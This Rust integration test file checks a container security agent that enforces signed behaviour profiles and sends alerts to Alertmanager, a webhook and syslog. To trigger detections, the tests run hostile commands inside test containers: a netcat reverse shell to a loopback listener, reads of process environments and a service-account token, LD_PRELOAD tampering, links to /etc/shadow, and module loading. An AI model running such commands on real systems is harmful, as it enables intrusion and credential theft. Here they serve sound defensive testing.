//! `imprint-agent --mode enforce` end to end on the real kernel: learn a busybox
//! container's profile, push, sign and attest it in a real `docker-registry`,
//! enforce it, and read the alerts back from a real Alertmanager
//! (`prometheus-alertmanager` on a free loopback port). Root only; skips, saying
//! why, elsewhere.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

#[allow(dead_code)]
mod common;
use common::{
    Agent, Env, publish, publish_to, setup, support, trusted_key, wait_for_profile, wait_until,
    webhook_receiver,
};

use imprint_oci::layout;
use imprint_oci::{KeyAlgorithm, SigningKey};
use imprint_oci::{Registry, parse_reference};

struct Alertmanager {
    child: Child,
    addr: String,
    dir: PathBuf,
}

impl Alertmanager {
    fn start(dir: &Path, addr: &str) -> Alertmanager {
        std::fs::create_dir_all(dir.join("data")).unwrap();
        let config = dir.join("alertmanager.yml");
        std::fs::write(
            &config,
            "route:\n  receiver: none\n  group_wait: 1s\nreceivers:\n  - name: none\n",
        )
        .unwrap();
        let child = Command::new("prometheus-alertmanager")
            .arg(format!("--config.file={}", config.display()))
            .arg(format!("--storage.path={}", dir.join("data").display()))
            .arg(format!("--web.listen-address={addr}"))
            .arg("--cluster.listen-address=")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start prometheus-alertmanager");
        let am = Alertmanager {
            child,
            addr: addr.to_string(),
            dir: dir.to_path_buf(),
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        while am.alerts().is_none() {
            assert!(
                Instant::now() < deadline,
                "alertmanager did not answer on {addr}"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        am
    }

    /// `GET /api/v2/alerts`: the alertnames, or `None` when it does not answer.
    fn alerts(&self) -> Option<Vec<serde_json::Value>> {
        use std::io::{Read, Write};
        let mut c = std::net::TcpStream::connect(&self.addr).ok()?;
        write!(
            c,
            "GET /api/v2/alerts HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            self.addr
        )
        .ok()?;
        let mut response = String::new();
        c.read_to_string(&mut response).ok()?;
        let body = response.split_once("\r\n\r\n")?.1;
        // Chunked or not: the JSON array is the part between the outer brackets.
        let start = body.find('[')?;
        let end = body.rfind(']')?;
        serde_json::from_str(&body[start..=end]).ok()
    }

    fn alertnames(&self) -> Vec<String> {
        self.alerts()
            .unwrap_or_default()
            .iter()
            .filter_map(|a| a["labels"]["alertname"].as_str().map(str::to_string))
            .collect()
    }

    fn stop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Alertmanager {
    fn drop(&mut self) {
        self.stop();
    }
}

#[test]
fn verified_profiles_are_enforced_and_alerts_reach_alertmanager() {
    if Command::new("prometheus-alertmanager")
        .arg("--version")
        .output()
        .is_err()
    {
        support::skip("prometheus-alertmanager is not installed (bash .ci/setup installs it)");
        return;
    }
    let Some(Env {
        serial: _serial,
        registry,
        podman,
    }) = setup()
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (image, digest) = podman.push_busybox(&registry.addr, "shop/enforced", "enforced");
    let (unsigned_image, unsigned_digest) =
        podman.push_busybox(&registry.addr, "shop/unsigned", "unsigned");
    let (bare_image, _) = podman.push_busybox(&registry.addr, "shop/bare", "bare");
    let normal = "cat /etc/passwd > /dev/null; echo ok > /tmp/out; true";

    // 1. Learn the busybox container's profile (and the unsigned image's).
    let out = dir.path().join("learned");
    // A few runs, as a learning period would see: which syscalls a short script
    // makes can vary with timing (a signal, a wait that returns at once).
    let learn = Agent::start(&out, &dir.path().join("learn-state"), "8s", &[]);
    for _ in 0..3 {
        for img in [&image, &unsigned_image] {
            podman.run(&[
                "run",
                "--rm",
                "--tls-verify=false",
                img,
                "/bin/sh",
                "-c",
                normal,
            ]);
        }
    }
    let profile_path = out.join(format!("{}.yaml", digest.replace(':', "-")));
    wait_for_profile(&out, &digest, Duration::from_secs(30), &learn);
    wait_for_profile(&out, &unsigned_digest, Duration::from_secs(30), &learn);
    drop(learn);

    // 2. Push, sign and attest it; the other one is pushed unsigned.
    let (key, public) = trusted_key(dir.path());
    publish(&registry.addr, "shop/enforced", &profile_path, Some(&key));
    publish(
        &registry.addr,
        "shop/unsigned",
        &out.join(format!("{}.yaml", unsigned_digest.replace(':', "-"))),
        None,
    );

    // 3. The agent enforces with the key, sending to a real Alertmanager.
    let am_addr = support::free_loopback_addr();
    let mut am = Alertmanager::start(&dir.path().join("am"), &am_addr);
    let state = dir.path().join("enforce-state");
    let metrics_addr = support::free_loopback_addr();
    let args: Vec<std::ffi::OsString> = vec![
        "--mode".into(),
        "enforce".into(),
        "--key".into(),
        public.clone().into(),
        "--alertmanager-url".into(),
        format!("http://{am_addr}").into(),
        "--state-dir".into(),
        state.clone().into(),
        "--refresh".into(),
        "2".into(),
        "--metrics-addr".into(),
        metrics_addr.clone().into(),
    ];
    let agent = Agent::spawn(&args);

    // 4. The normal script: the profile gets enforced, and nothing alerts.
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &image,
        "/bin/sh",
        "-c",
        normal,
    ]);
    agent.wait_for_log(&format!("for {digest}"), Duration::from_secs(30));
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &image,
        "/bin/sh",
        "-c",
        normal,
    ]);
    std::thread::sleep(Duration::from_secs(3));
    let quiet = am.alerts().unwrap_or_default();
    assert!(quiet.is_empty(), "{quiet:#?}\n{}", agent.log());

    // 5. An unexpected exec and a reverse shell to a loopback listener.
    let port = support::free_loopback_addr()
        .rsplit_once(':')
        .unwrap()
        .1
        .to_string();
    let mut listener = Command::new("/bin/busybox")
        .args(["nc", "-l", "-p", &port])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let attack =
        format!("/bin/busybox id > /dev/null; /bin/busybox nc 127.0.0.1 {port} -e /bin/sh");
    let attacker = podman
        .command()
        .args([
            "run",
            "--rm",
            "--tls-verify=false",
            &image,
            "/bin/sh",
            "-c",
            &attack,
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let _ = listener.kill();
    let _ = listener.wait();
    let _ = attacker.wait_with_output();
    wait_until("alerts in Alertmanager", Duration::from_secs(30), || {
        let names = am.alertnames();
        names.contains(&"imprint_reverse_shell".to_string())
            && names.contains(&"imprint_anomaly_exec".to_string())
    });
    let alerts = am.alerts().unwrap();
    let shell = alerts
        .iter()
        .find(|a| a["labels"]["alertname"] == "imprint_reverse_shell")
        .unwrap();
    assert_eq!(shell["labels"]["image_digest"], digest.as_str());
    assert_eq!(shell["labels"]["severity"], "critical");
    assert!(
        shell["generatorURL"]
            .as_str()
            .unwrap()
            .contains("reverse-shell")
    );

    // 6. The unsigned profile is not enforced: its status says why, and an
    //    unexpected exec in that image raises no anomaly.
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &unsigned_image,
        "/bin/busybox",
        "id",
    ]);
    agent.wait_for_log(
        &format!("{unsigned_digest}: unsigned"),
        Duration::from_secs(30),
    );
    // 7. An image with no profile of its own (a profile for another digest exists
    //    in the registry): behaviour rules only.
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &bare_image,
        "/bin/busybox",
        "id",
    ]);
    agent.wait_for_log(": no-profile", Duration::from_secs(30));
    std::thread::sleep(Duration::from_secs(3));
    let anomalies: Vec<String> = am
        .alerts()
        .unwrap()
        .iter()
        .filter(|a| a["labels"]["source"] == "anomaly")
        .map(|a| {
            a["labels"]["image_digest"]
                .as_str()
                .unwrap_or("")
                .to_string()
        })
        .collect();
    assert!(anomalies.iter().all(|d| *d == digest), "{anomalies:?}");

    // Metrics say the same: profiles by state, alerts by rule, readiness.
    let get = |path: &str| {
        use std::io::{Read, Write};
        let mut c = std::net::TcpStream::connect(&metrics_addr).unwrap();
        write!(c, "GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
        let mut text = String::new();
        c.read_to_string(&mut text).unwrap();
        text
    };
    let metrics = get("/metrics");
    for line in [
        "imprint_profiles{state=\"verified\"} 1",
        "imprint_alerts_by_rule_total{rule=\"reverse-shell\"} 1",
        "imprint_profiles_enforced 1",
    ] {
        assert!(metrics.contains(line), "{line} not in\n{metrics}");
    }
    // Containers an earlier test left running on this host count too: at least.
    let count = |state: &str| -> u64 {
        let prefix = format!("imprint_profiles{{state=\"{state}\"}} ");
        (metrics.lines())
            .find_map(|l| l.strip_prefix(prefix.as_str()))
            .and_then(|n| n.trim().parse().ok())
            .unwrap_or(0)
    };
    assert!(
        count("unsigned") >= 1 && count("no-profile") >= 1,
        "{metrics}"
    );
    assert!(get("/readyz").ends_with("ready\n"));
    assert!(metrics.contains("imprint_resolver_up 1\n"), "{metrics}");

    // `imprint-agent status` says per digest what is enforced and from where, and
    // why the others are on behaviour rules only.
    let status = Command::new(env!("CARGO_BIN_EXE_imprint-agent"))
        .args([
            "status",
            "--metrics-addr",
            &metrics_addr,
            "--output",
            "json",
        ])
        .output()
        .unwrap();
    assert!(status.status.success(), "{status:?}");
    let report: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(report["resolver"]["running"], true, "{report:#}");
    let enforced = &report["digests"][digest.as_str()];
    assert_eq!(enforced["state"], "verified", "{report:#}");
    assert!(
        enforced["enforced"]
            .as_str()
            .is_some_and(|a| a.contains("/shop/enforced@sha256:")),
        "{report:#}"
    );
    let refused = &report["digests"][unsigned_digest.as_str()];
    assert_eq!(refused["state"], "unsigned", "{report:#}");
    assert!(
        refused["detail"].as_str().is_some_and(|d| !d.is_empty()),
        "{report:#}"
    );
    assert!(refused.get("enforced").is_none(), "{report:#}");
    let table = Command::new(env!("CARGO_BIN_EXE_imprint-agent"))
        .args(["status", "--metrics-addr", &metrics_addr])
        .output()
        .unwrap();
    let table = String::from_utf8_lossy(&table.stdout);
    assert!(table.starts_with("resolver: running\n"), "{table}");
    assert!(
        table.contains(&format!("{unsigned_digest} ")) && table.contains("unsigned"),
        "{table}"
    );

    // 8. Alertmanager goes away; alerts raised meanwhile are spooled, and all
    //    arrive once it is back.
    am.stop();
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &image,
        "/bin/sh",
        "-c",
        "/bin/busybox uname > /dev/null; true",
    ]);
    let spool = state.join("spool/alertmanager");
    wait_until("a spooled batch", Duration::from_secs(20), || {
        std::fs::read_dir(&spool).map(|d| d.count()).unwrap_or(0) > 0
    });
    let am_dir = am.dir.clone();
    drop(am);
    let am = Alertmanager::start(&am_dir, &am_addr);
    wait_until(
        "the spooled alert in Alertmanager",
        Duration::from_secs(60),
        || {
            am.alerts().unwrap_or_default().iter().any(|a| {
                a["labels"]["alertname"] == "imprint_anomaly_exec"
                    && a["annotations"]["subject"]
                        .as_str()
                        .is_some_and(|s| s.contains("busybox"))
                    && a["annotations"]["summary"]
                        .as_str()
                        .is_some_and(|s| s.contains("uname"))
            })
        },
    );
    drop(agent);

    // 9. A restart while the registry is down: the last verified profile is
    //    enforced again from the cache, before any registry answers.
    drop(registry);
    let agent = Agent::spawn(&args);
    agent.wait_for_log(&format!("for {digest}"), Duration::from_secs(10));
    podman.run(&[
        "run",
        "--rm",
        &image,
        "/bin/sh",
        "-c",
        "/bin/busybox hostname > /dev/null; true",
    ]);
    wait_until(
        "an anomaly with the registry down",
        Duration::from_secs(30),
        || {
            am.alerts().unwrap_or_default().iter().any(|a| {
                a["annotations"]["summary"]
                    .as_str()
                    .is_some_and(|s| s.contains("hostname"))
            })
        },
    );
    drop(agent);
}

#[test]
fn behaviour_rules_fire_on_real_behaviour_in_a_container() {
    let Some(Env {
        serial: _serial,
        registry,
        podman,
    }) = setup()
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (image, _) = podman.push_busybox(&registry.addr, "shop/attacked", "attacked");
    let (webhook, received) = webhook_receiver();
    let syslog = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    syslog
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    let (_key, public) = trusted_key(dir.path());
    // The outputs and the key come from a configuration file; the mode from a flag.
    let config = dir.path().join("agent.yaml");
    std::fs::write(
        &config,
        format!(
            "apiVersion: imprint.dev/v1\nkind: AgentConfig\nstateDir: {}\nenforce:\n  keys: [{}]\noutputs:\n  webhook:\n    url: http://{webhook}/hook\n    headers: {{Authorization: Bearer s3cret}}\n  syslog: {{url: \"udp://{}\"}}\n",
            dir.path().join("state").display(),
            public.display(),
            syslog.local_addr().unwrap()
        ),
    )
    .unwrap();
    let args: Vec<std::ffi::OsString> = vec![
        "--mode".into(),
        "enforce".into(),
        "--config".into(),
        config.into(),
    ];
    let agent = Agent::spawn(&args);
    // Each line performs one behaviour for real (as root in the container).
    let script = [
        "cp /bin/busybox /tmp/dropper && /tmp/dropper true",
        "/bin/busybox cat /proc/1/environ > /dev/null",
        "/bin/busybox mkdir -p /var/run/secrets/kubernetes.io/serviceaccount",
        "echo t > /var/run/secrets/kubernetes.io/serviceaccount/token",
        "/bin/busybox cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null",
        "echo /x.so > /etc/ld.so.preload",
        "/bin/busybox env LD_PRELOAD=/x.so /bin/busybox true",
        "/bin/busybox ln -s /etc/shadow /tmp/shadow-link",
        "/bin/busybox ln /etc/passwd /tmp/passwd-link",
        "/bin/busybox unshare -n /bin/busybox true",
        "echo x > /tmp/m.ko; /bin/busybox insmod /tmp/m.ko",
        "/bin/busybox nslookup -timeout=1 pool.minexmr.com 127.0.0.1",
        "/bin/busybox nc -w 1 127.0.0.1 3333 < /dev/null",
        "cp /bin/busybox /bin/kubectl && /bin/kubectl",
        // Built from tests/behaviours/attacks.c and mounted at /attacks.
        "/attacks memfd",
        "/attacks ptrace",
        "/attacks bpf",
        "/attacks setns",
        "true",
    ]
    .join("; ");
    let attacks = common::build_attacks(dir.path());
    let mount = format!("{}:/attacks:ro", attacks.display());
    let _ = podman
        .command()
        // Without podman's seccomp profile: a syscall it refuses (init_module)
        // never reaches the syscall tracepoints, as the kernel runs seccomp first.
        .args([
            "run",
            "--rm",
            "--tls-verify=false",
            "--security-opt",
            "seccomp=unconfined",
            "-v",
            &mount,
            &image,
            "/bin/sh",
            "-c",
            &script,
        ])
        .output()
        .unwrap();
    let expected = [
        "exec-from-temporary-directory",
        "process-environment-read",
        "service-account-token-read",
        "dynamic-linker-preload",
        "ld-preload-argument",
        "sensitive-file-link",
        "namespace-escape",
        "kernel-module-load",
        "crypto-mining-pool-dns",
        "crypto-mining-pool-port",
        "kubernetes-client-in-container",
        "fileless-exec",
        "memfd-create",
        "ptrace-attach",
        "bpf-program-load",
    ];
    // `rule` alone, and `rule/subject` where one rule covers two behaviours
    // (unshare's CLONE_NEWNET and setns's CLONE_NEWUTS).
    let subjects = [
        "namespace-escape/CLONE_NEWNET",
        "namespace-escape/CLONE_NEWUTS",
    ];
    let fired = || -> Vec<String> {
        received
            .lock()
            .unwrap()
            .iter()
            .flat_map(|(_, batch)| batch.as_array().cloned().unwrap_or_default())
            .flat_map(|a| {
                let rule = a["rule"].as_str().unwrap_or_default().to_string();
                let subject = format!("{rule}/{}", a["subject"].as_str().unwrap_or_default());
                [rule, subject]
            })
            .collect()
    };
    let deadline = Instant::now() + Duration::from_secs(40);
    loop {
        let f = fired();
        let missing: Vec<&&str> = expected
            .iter()
            .chain(subjects.iter())
            .filter(|e| !f.iter().any(|r| r == **e))
            .collect();
        if missing.is_empty() {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no alert for {missing:?}; fired: {f:?}\nagent:\n{}",
            agent.log()
        );
        std::thread::sleep(Duration::from_millis(250));
    }
    let (head, _) = received.lock().unwrap()[0].clone();
    assert!(head.contains("Bearer s3cret"), "{head}");
    assert!(head.starts_with("POST /hook "), "{head}");
    // The same alerts as RFC 5424 syslog over UDP.
    let mut buf = [0u8; 4096];
    let (n, _) = syslog.recv_from(&mut buf).expect("a syslog message");
    let message = String::from_utf8_lossy(&buf[..n]).to_string();
    assert!(
        message.starts_with('<') && message.contains(">1 "),
        "{message}"
    );
    assert!(message.contains("imprint-agent"), "{message}");
    drop(agent);
}

#[test]
fn a_pinned_profile_reference_is_enforced_only_once_verified() {
    let Some(Env {
        serial: _serial,
        registry,
        podman,
    }) = setup()
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (image, digest) = podman.push_busybox(&registry.addr, "shop/pinned", "pinned");
    // A profile that allows only the shell, kept in a separate repository: image
    // discovery cannot find it, only the pin can.
    let mut profile = imprint_schema::Profile::new(digest.parse().unwrap());
    profile.execs.push(imprint_schema::Exec {
        path: "/bin/sh".into(),
        args: None,
    });
    let path = dir.path().join("profile.yaml");
    std::fs::write(&path, imprint_schema::to_yaml(&profile)).unwrap();
    let (key, public) = trusted_key(dir.path());
    let signed = publish_to(
        &registry.addr,
        "profiles/pinned",
        "shop/pinned",
        &path,
        Some(&key),
    );
    let unsigned = publish_to(
        &registry.addr,
        "profiles/unsigned",
        "shop/pinned",
        &path,
        None,
    );

    let (webhook, received) = webhook_receiver();
    let start = |pin: &str, state: &str| {
        Agent::spawn(&[
            "--mode".into(),
            "enforce".into(),
            "--key".into(),
            public.clone().into(),
            "--profile-ref".into(),
            pin.into(),
            "--webhook-url".into(),
            format!("http://{webhook}/").into(),
            "--state-dir".into(),
            dir.path().join(state).into(),
            "--refresh".into(),
            "2".into(),
        ])
    };
    // Pinned but unsigned: not enforced.
    let agent = start(
        &format!("oci://{}/profiles/unsigned@{unsigned}", registry.addr),
        "s1",
    );
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &image,
        "/bin/sh",
        "-c",
        "true",
    ]);
    agent.wait_for_log(&format!("{digest}: unsigned"), Duration::from_secs(30));
    drop(agent);
    // Pinned and verified: enforced, and an exec the profile lacks alerts.
    let agent = start(
        &format!("oci://{}/profiles/pinned@{signed}", registry.addr),
        "s2",
    );
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &image,
        "/bin/sh",
        "-c",
        "true",
    ]);
    agent.wait_for_log(
        &format!(
            "enforcing {}/profiles/pinned@{signed} for {digest}",
            registry.addr
        ),
        Duration::from_secs(30),
    );
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &image,
        "/bin/sh",
        "-c",
        "/bin/busybox id > /dev/null",
    ]);
    wait_until(
        "an anomaly from the pinned profile",
        Duration::from_secs(30),
        || {
            received.lock().unwrap().iter().any(|(_, batch)| {
                batch.as_array().is_some_and(|a| {
                    a.iter()
                        .any(|x| x["rule"] == "anomaly.exec" && x["imageDigest"] == digest.as_str())
                })
            })
        },
    );

    // An attack, not a revocation: someone who can write to the registry but
    // holds no trusted key replaces the signature tag with one from another key.
    // The profile no longer verifies, but nothing explicit (a pin change, a
    // policy change, a signed revocation) asked to drop it: it stays in force,
    // and an alert says it was withdrawn.
    let stranger = SigningKey::generate(KeyAlgorithm::EcdsaP256);
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let repository = parse_reference(&format!("{}/profiles/pinned", registry.addr)).unwrap();
        let client = Registry::new(&Default::default(), &[&repository]).unwrap();
        let payload = imprint_oci::signing::simple_signing_payload("x", &signed.parse().unwrap());
        let mut layer =
            layout::Descriptor::of(imprint_oci::signing::SIMPLE_SIGNING_MEDIA_TYPE, &payload);
        use base64::Engine as _;
        layer.annotations.insert(
            imprint_oci::signing::SIGNATURE_ANNOTATION.into(),
            base64::engine::general_purpose::STANDARD.encode(stranger.sign(&payload)),
        );
        let (manifest, config) = imprint_oci::signing::tag_manifest(vec![layer]);
        client.push_blob(&repository, &payload).await.unwrap();
        client.push_blob(&repository, &config).await.unwrap();
        let tag = parse_reference(&format!(
            "{}/profiles/pinned:{}",
            registry.addr,
            imprint_oci::signing::signature_tag(&signed.parse().unwrap())
        ))
        .unwrap();
        client
            .push_manifest(&tag, &manifest, layout::MANIFEST_MEDIA_TYPE)
            .await
            .unwrap();
    });
    agent.wait_for_log(&format!("{digest}: withdrawn:"), Duration::from_secs(30));
    wait_until("the withdrawal alert", Duration::from_secs(30), || {
        received.lock().unwrap().iter().any(|(_, batch)| {
            batch.as_array().is_some_and(|a| {
                a.iter().any(|x| {
                    x["rule"] == "agent-profile-withdrawn" && x["imageDigest"] == digest.as_str()
                })
            })
        })
    });
    // Still enforced: the exec the profile lacks still alerts.
    received.lock().unwrap().clear();
    podman.run(&[
        "run",
        "--rm",
        "--tls-verify=false",
        &image,
        "/bin/sh",
        "-c",
        "/bin/busybox id > /dev/null",
    ]);
    wait_until(
        "an anomaly from the profile still in force",
        Duration::from_secs(30),
        || {
            received.lock().unwrap().iter().any(|(_, batch)| {
                batch.as_array().is_some_and(|a| {
                    a.iter()
                        .any(|x| x["rule"] == "anomaly.exec" && x["imageDigest"] == digest.as_str())
                })
            })
        },
    );
    let log = agent.log();
    assert!(!log.contains("no longer enforcing"), "{log}");
    drop(agent);
}

/// A container started from a multi-platform index (as containerd reports such
/// images) is judged by the profile of the manifest it runs on this node: the
/// index is read by digest, its amd64 entry chosen (not its first), and the
/// profile bound to that manifest enforced, alerts naming the manifest.
#[test]
fn a_container_started_from_an_index_is_judged_by_its_platform_manifest() {
    if std::env::consts::ARCH != "x86_64" {
        support::skip_other_arch("the index built here has an amd64 entry to run");
        return;
    }
    let Some(Env {
        serial: _serial,
        registry,
        podman,
    }) = setup()
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (image, manifest) = podman.push_busybox(&registry.addr, "shop/multi", "multi");
    let image = parse_reference(&image).unwrap();
    let client = Registry::new(&Default::default(), &[&image]).unwrap();
    let arm64 = support::push_image(&registry.addr, "shop/multi", "arm64", "arm64");
    let arm64 = image.clone_with_digest(arm64.to_string());
    let tag = parse_reference(&format!("{}/shop/multi:multi-arch", registry.addr)).unwrap();
    let index = common::push_index(&client, &image, &arm64, &tag);
    assert_ne!(index.as_str(), manifest);

    // The profile names the amd64 manifest and allows only the shell.
    let mut profile = imprint_schema::Profile::new(manifest.parse().unwrap());
    profile.execs.push(imprint_schema::Exec {
        path: "/bin/sh".into(),
        args: None,
    });
    let path = dir.path().join("profile.yaml");
    std::fs::write(&path, imprint_schema::to_yaml(&profile)).unwrap();
    let (key, public) = trusted_key(dir.path());
    let artifact = publish(&registry.addr, "shop/multi", &path, Some(&key));

    let (webhook, received) = webhook_receiver();
    let state = dir.path().join("state");
    let start = || {
        Agent::spawn(&[
            "--mode".into(),
            "enforce".into(),
            "--key".into(),
            public.clone().into(),
            "--webhook-url".into(),
            format!("http://{webhook}/").into(),
            "--state-dir".into(),
            state.clone().into(),
            "--refresh".into(),
            "2".into(),
        ])
    };
    let agent = start();
    let by_index = format!("{}/shop/multi@{index}", registry.addr);
    let run = |script: &str| {
        podman.run(&[
            "run",
            "--rm",
            "--tls-verify=false",
            &by_index,
            "/bin/sh",
            "-c",
            script,
        ])
    };
    run("true");
    agent.wait_for_log(
        &format!("{index} is a multi-platform index; this node (linux/amd64) runs {manifest}"),
        Duration::from_secs(30),
    );
    agent.wait_for_log(
        &format!(
            "enforcing {}/shop/multi@{artifact} for {manifest}",
            registry.addr
        ),
        Duration::from_secs(30),
    );
    run("/bin/busybox id > /dev/null");
    let anomaly_for_manifest = || {
        received.lock().unwrap().iter().any(|(_, batch)| {
            batch.as_array().is_some_and(|a| {
                a.iter()
                    .any(|x| x["rule"] == "anomaly.exec" && x["imageDigest"] == manifest.as_str())
            })
        })
    };
    wait_until(
        "an anomaly judged by the platform manifest's profile",
        Duration::from_secs(30),
        anomaly_for_manifest,
    );
    drop(agent);

    // After a restart the index is known without asking: the mapping was kept.
    received.lock().unwrap().clear();
    let agent = start();
    run("/bin/busybox id > /dev/null");
    wait_until(
        "the same judgement after a restart",
        Duration::from_secs(30),
        anomaly_for_manifest,
    );
    assert!(
        !agent.log().contains("is a multi-platform index"),
        "asked again after the restart:\n{}",
        agent.log()
    );
    drop(agent);

    // Git delivers a profile learned by index (the index digest in it) with other
    // content: it pins the manifest too, so the signed one is no longer enforced,
    // neither from the cache at start nor after a lookup.
    let delivered = dir.path().join("delivered");
    std::fs::create_dir(&delivered).unwrap();
    let mut by_index = imprint_schema::Profile::new(index.clone());
    by_index.execs.push(imprint_schema::Exec {
        path: "/bin/busybox".into(),
        args: None,
    });
    std::fs::write(
        delivered.join("learned.yaml"),
        imprint_schema::to_yaml(&by_index),
    )
    .unwrap();
    let agent = Agent::spawn(&[
        "--mode".into(),
        "enforce".into(),
        "--key".into(),
        public.clone().into(),
        "--state-dir".into(),
        state.clone().into(),
        "--profile-dir".into(),
        delivered.into(),
        "--refresh".into(),
        "2".into(),
    ]);
    run("true");
    agent.wait_for_log(&format!("{manifest}: unsigned"), Duration::from_secs(30));
    let log = agent.log();
    assert!(log.contains("is not the delivered one"), "{log}");
    assert!(
        !log.contains(&format!("enforcing {}/", registry.addr)),
        "{log}"
    );
    drop(agent);
}

/// A container no runtime names the image of (the agent asks CRI, the
/// container is podman's) still meets every behaviour rule, with no image; and
/// relative names and `..` are judged as the files they open: `cd /proc/1 &&
/// cat environ`, a write by a relative name after a `cd`, and
/// `/app/cache/../../proc/self/environ`.
#[test]
fn relative_paths_and_containers_of_unknown_images_meet_the_rules() {
    let Some(Env {
        serial: _serial,
        registry,
        podman,
    }) = setup()
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (image, _) = podman.push_busybox(&registry.addr, "shop/unknown", "unknown");
    let (webhook, received) = webhook_receiver();
    let (_key, public) = trusted_key(dir.path());
    let args: Vec<std::ffi::OsString> = vec![
        "--mode".into(),
        "enforce".into(),
        "--runtime".into(),
        "cri".into(),
        "--state-dir".into(),
        dir.path().join("state").into(),
        "--key".into(),
        public.into(),
        "--webhook-url".into(),
        format!("http://{webhook}/hook").into(),
    ];
    let agent = Agent::spawn(&args);
    let script = [
        "cd /proc/1 && /bin/busybox cat environ > /dev/null",
        "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount",
        "cd /var/run/secrets/kubernetes.io && echo t > serviceaccount/token",
        "mkdir -p /app/cache && /bin/busybox cat /app/cache/../../proc/self/environ > /dev/null",
        "true",
    ]
    .join("; ");
    let out = podman
        .command()
        .args(["run", "--rm", "--tls-verify=false", &image, "/bin/sh", "-c"])
        .arg(&script)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let expected = [
        "process-environment-read /proc/1/environ",
        "service-account-token-read /var/run/secrets/kubernetes.io/serviceaccount/token",
        "process-environment-read /proc/self/environ",
    ];
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let alerts: Vec<serde_json::Value> = (received.lock().unwrap().iter())
            .flat_map(|(_, batch)| batch.as_array().cloned().unwrap_or_default())
            .collect();
        let fired: Vec<String> = alerts
            .iter()
            .map(|a| {
                let rule = a["rule"].as_str().unwrap_or_default();
                let subject = a["subject"].as_str().unwrap_or_default();
                format!("{rule} {}", subject.split(' ').next().unwrap_or_default())
            })
            .collect();
        if expected.iter().all(|e| fired.iter().any(|f| f == e)) {
            // No runtime named the image: the alerts say none.
            for a in alerts.iter().filter(|a| a["source"] != "agent") {
                assert!(a.get("imageDigest").is_none(), "{a}");
                assert!(
                    !a["containerId"].as_str().unwrap_or_default().is_empty(),
                    "{a}"
                );
            }
            break;
        }
        assert!(
            Instant::now() < deadline,
            "expected {expected:?}; fired: {fired:?}\nagent:\n{}",
            agent.log()
        );
        std::thread::sleep(Duration::from_millis(250));
    }
    drop(agent);
}
